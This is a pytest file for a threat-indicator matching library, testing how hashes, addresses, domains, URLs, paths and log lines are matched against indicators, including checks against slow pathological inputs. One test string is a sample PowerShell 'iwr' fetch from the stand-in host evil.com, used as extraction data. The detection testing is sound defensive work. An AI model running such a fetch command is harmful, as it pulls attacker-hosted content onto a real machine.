import time

import pytest
from tramgac_rules.indicators import fields
from tramgac_rules.indicators.finders import MAX_URLS, Finders, urls_in
from tramgac_rules.indicators.opening import open_set

from tests.rules.indicators.making import packed

SHA256, MD5, IMPHASH = "ab" * 32, "cd" * 16, "ef" * 16
LISTED = [
    ("sha256", SHA256), ("md5", MD5), ("imphash", IMPHASH), ("address", "192.0.2.1"), ("address", "2001:db8::1"),
    ("network", "192.0.2.0/24"), ("network", "192.0.0.0/16"), ("domain", "evil.com"), ("domain", "very.evil.com"),
    ("hostname", "www.odd.net"), ("url", "http://evil.com/x"), ("path", "c:/tmp/evil.exe"), ("name", "evil.exe"),
]  # fmt: skip
FINDERS = Finders(open_set(packed(*LISTED)))


def found(name, text):
    """What each group of alternatives shows, and where."""
    return [[(it.name, text[it.start : it.end]) for it in group] for group in getattr(FINDERS, name)(text)]


@pytest.mark.parametrize(("text", "wanted"), [
    (f"SHA256={SHA256.upper()}", [[("sha256", SHA256.upper())]]),
    (f"SHA256={SHA256}x", []),
    (SHA256, [[("sha256", SHA256)]]),
    (f"MD5={MD5},SHA256={SHA256},IMPHASH={IMPHASH}", [[("sha256", SHA256), ("md5", MD5), ("imphash", IMPHASH)]]),
    (f"SHA1={'0' * 40}, md5 = {MD5}", [[("md5", f" {MD5}")]]),
    (MD5, [[("md5", MD5)]]),
    (IMPHASH, []),
    (f"IMPHASH={MD5}", []),
    ("", []),
    ("=" * 100_000, []),
    ("," * 100_000, []),
])  # fmt: skip
def test_digests_the_surest_first(text, wanted):
    assert found("hashes", text) == wanted


def test_a_digest_of_imports():
    assert found("imphash", IMPHASH) == [[("imphash", IMPHASH)]]
    assert found("imphash", MD5) == []


@pytest.mark.parametrize(("text", "wanted"), [
    ("192.0.2.1", ["address4", "network4", "network4"]),
    ("::ffff:192.0.2.1", ["address4", "network4", "network4"]),
    ("192.0.2.2", ["network4", "network4"]),
    ("192.0.9.9", ["network4"]),
    ("2001:DB8::1", ["address6"]),
    ("203.0.113.1", []),
    ("-", []),
])  # fmt: skip
def test_addresses_before_the_networks_around_them(text, wanted):
    (names,) = [[name for name, shown in group if shown == text] for group in found("address", text)] or [[]]
    assert names == wanted


@pytest.mark.parametrize(("text", "wanted"), [
    ("evil.com", [[("domain", "evil.com")]]),
    ("A.B.Evil.COM.", [[("domain", "Evil.COM")]]),
    ("a.very.evil.com", [[("domain", "very.evil.com"), ("domain", "evil.com")]]),
    ("notevil.com", []),
    ("evil.com.vn", []),
    ("com", []),
    ("www.odd.net", [[("hostname", "www.odd.net")]]),
    ("a.www.odd.net", []),
    ("", []),
    ("a." * 100_000, []),
])  # fmt: skip
def test_domains_with_what_is_below_them_and_hostnames_alone(text, wanted):
    assert found("domain", text) == wanted


def test_what_a_dns_server_answered():
    text = "type:  5 cdn.evil.com;::ffff:192.0.2.1;2001:db8::1;203.0.113.1;"
    groups = found("answers", text)
    assert [group[0] for group in groups] == [
        ("domain", "evil.com"), ("address4", "::ffff:192.0.2.1"), ("address6", "2001:db8::1"),
    ]  # fmt: skip


@pytest.mark.parametrize(("text", "wanted"), [
    ("HTTP://EVIL.com:80/x", [("url", "HTTP://EVIL.com:80/x"), ("domain", "EVIL.com")]),
    ("http://evil.com/%78", [("url", "http://evil.com/%78"), ("domain", "evil.com")]),
    ("http://evil.com/X", [("domain", "evil.com")]),
    ("ftp://u:p@192.0.2.1/", [("address4", "192.0.2.1"), ("network4", "192.0.2.1"), ("network4", "192.0.2.1")]),
    ("http://[2001:db8::1]/", [("address6", "2001:db8::1")]),
    ("http://3221225985/", [("address4", "http://3221225985/")] + [("network4", "http://3221225985/")] * 2),
    ("evil.com", None),
])  # fmt: skip
def test_urls_before_their_hosts(text, wanted):
    assert found("url", text) == ([wanted] if wanted else [])


@pytest.mark.parametrize(("text", "wanted"), [
    ("C:\\tmp\\Evil.exe", [("path", "C:\\tmp\\Evil.exe"), ("name", "Evil.exe")]),
    ("/opt/evil.exe", [("name", "evil.exe")]),
    ("evil.exe", [("name", "evil.exe")]),
    ("/opt/evil.exe/x", None),
    ("/opt/notevil.exe", None),
    ("x" * 100_000, None),
])  # fmt: skip
def test_paths_before_names(text, wanted):
    assert found("path", text) == ([wanted] if wanted else [])


def test_urls_in_a_command_line():
    text = "powershell iwr('http://evil.com/x'); curl https://good.org, (ftp://a.very.evil.com/y)."
    assert [group[0] for group in found("text", text)] == [("url", "http://evil.com/x"), ("domain", "very.evil.com")]
    assert [url for _, url in urls_in(text)] == ["http://evil.com/x", "https://good.org", "ftp://a.very.evil.com/y"]
    assert found("text", "evil.com without a scheme") == []


@pytest.mark.parametrize(("text", "wanted"), [
    ("Failed password for root from 192.0.2.1 port 4711 ssh2", ["192.0.2.1"]),
    ("peer=[2001:db8::1]:443, via (192.0.2.1).", ["2001:db8::1", "192.0.2.1"]),
    ("to 192.0.2.1:443 after http://evil.com/x", ["http://evil.com/x", "192.0.2.1"]),
    ("version 192.0.2.1-2, x192.0.2.1, 192.0.2.1x, 1.192.0.2.1", []),
    ("09:41:17 192.513 3221225985", []),
])  # fmt: skip
def test_addresses_in_a_line_of_a_log(text, wanted):
    assert [group[0][1] for group in found("line", text)] == wanted


@pytest.mark.parametrize("text", [
    "a" * 32_768, "1." * 16_000, "1.1.1.1 " * 4_000, "::" * 16_000, "f " * 16_000,
    "://" * 10_922, "http://" * 4_681, "a://b" * 6_553, "http://" + "a." * 16_000,
    "http://" + "@" * 32_000, "http://evil.com/" + "%61" * 10_000, "http://[" * 4_096, "http://" + "1:" * 16_000,
])  # fmt: skip
def test_hostile_texts_cost_little(text):
    began = time.process_time()
    FINDERS.line(text)
    FINDERS.url(text)
    assert time.process_time() - began < 0.25
    assert len([*urls_in(text)]) <= MAX_URLS


def test_finders_without_anything_to_find_are_left_out():
    def useful(*listed):
        return set(Finders(open_set(packed(*listed))).useful())

    assert useful() == set()
    assert useful(("name", "x")) == {fields.PATH}
    assert useful(("sha1", "ab" * 20)) == {fields.HASHES}
    assert useful(("address", "192.0.2.1")) == {
        fields.ADDRESS, fields.ANSWERS, fields.URL, fields.TEXT, fields.LINE,
    }  # fmt: skip
    held = (fields.HASHES, fields.IMPHASH, fields.ADDRESS, fields.DOMAIN, fields.ANSWERS, fields.URL, fields.PATH)
    assert useful(*LISTED) == {*held, fields.TEXT, fields.LINE}
